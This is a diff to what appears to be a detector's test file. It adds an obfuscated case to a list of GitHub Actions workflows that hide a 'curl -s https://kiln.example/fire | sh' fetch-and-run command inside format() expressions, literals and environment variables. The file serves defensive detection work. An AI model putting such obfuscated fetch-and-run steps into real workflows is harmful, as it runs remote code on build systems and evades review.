@@ -21,6 +21,7 @@ BAD = {
     "a literal": workflow(f"run: ${{{{ '{FETCH}' }}}}"),
     "another literal": workflow(f"run: ${{{{ github.actor == 'clay' && '{FETCH}' || 'make' }}}}"),
     "format": workflow("run: ${{ format('{0} -s https://kiln.example/fire | {1}', 'curl', env.S) }}", top="env:\n  S: sh\n"),
+    "format, with what nobody knows": workflow("run: ${{ format('{1} -s https://kiln.example/fire | {2}', github.ref, 'curl', 'sh') }}"),
     "a variable": workflow("run: ${{ env.CLAY }}", top=f"env:\n  CLAY: {FETCH}\n"),
     "a variable that the shell runs": workflow('run: eval "$CLAY"', job=f"    env:\n      CLAY: {FETCH}\n"),
     "a variable of a step": workflow(f"run: eval $CLAY\n        env:\n          CLAY: {FETCH}"),
